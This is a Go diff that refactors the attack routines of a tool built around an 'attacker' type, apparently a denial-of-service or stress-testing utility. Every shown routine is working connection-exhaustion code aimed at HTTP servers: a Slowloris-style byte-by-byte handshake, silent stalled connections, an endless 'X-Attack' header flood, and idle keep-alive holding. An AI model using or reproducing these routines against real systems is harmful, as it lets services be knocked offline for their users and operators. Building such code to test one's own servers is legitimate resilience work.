@@ -29,8 +29,8 @@ func (c *conn) stalled() error {
 	return err
 }
 
-func slowHandshake(a *attacker) {
-	request := a.target.Request(a.room, false)
+// dialing has clients connect and do something with the connection, again and again.
+func (a *attacker) dialing(do func(c *conn) error) {
 	a.each(func(i int) {
 		a.again(func() error {
 			c, err := a.dial(i)
@@ -38,61 +38,47 @@ func slowHandshake(a *attacker) {
 				return err
 			}
 			defer c.drop()
-			for at := range request {
-				if _, err := c.Write(request[at : at+1]); err != nil {
-					return err
-				}
-				if err := a.pause(time.Second); err != nil {
-					return err
-				}
-			}
-			return nil
+			return do(c)
 		})
 	})
 }
 
-func silent(a *attacker) {
-	a.each(func(i int) {
-		a.again(func() error {
-			c, err := a.dial(i)
-			if err != nil {
+func slowHandshake(a *attacker) {
+	request := a.target.Request(a.room, false)
+	a.dialing(func(c *conn) error {
+		for at := range request {
+			if _, err := c.Write(request[at : at+1]); err != nil {
 				return err
 			}
-			return c.stalled()
-		})
+			if err := a.pause(time.Second); err != nil {
+				return err
+			}
+		}
+		return nil
 	})
 }
+
+func silent(a *attacker) { a.dialing((*conn).stalled) }
 
 func headerFlood(a *attacker) {
 	request, _ := bytes.CutSuffix(a.target.Request(a.room, false), []byte("\r\n"))
 	lines := bytes.Repeat([]byte("X-Attack: "+string(bytes.Repeat([]byte{'a'}, 90))+"\r\n"), 160)
-	a.each(func(i int) {
-		a.again(func() error {
-			c, err := a.dial(i)
-			if err != nil {
-				return err
-			}
-			defer c.drop()
-			for _, err = c.Write(request); err == nil; _, err = c.Write(lines) {
-			}
-			return err
-		})
+	a.dialing(func(c *conn) error {
+		_, err := c.Write(request)
+		for err == nil {
+			_, err = c.Write(lines)
+		}
+		return err
 	})
 }
 
 func idleHTTP(a *attacker) {
 	request := fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n", a.target.Host())
-	a.each(func(i int) {
-		a.again(func() error {
-			c, err := a.dial(i)
-			if err != nil {
-				return err
-			}
-			if _, err := c.Write(request); err != nil {
-				return err
-			}
-			return c.stalled()
-		})
+	a.dialing(func(c *conn) error {
+		if _, err := c.Write(request); err != nil {
+			return err
+		}
+		return c.stalled()
 	})
 }
 
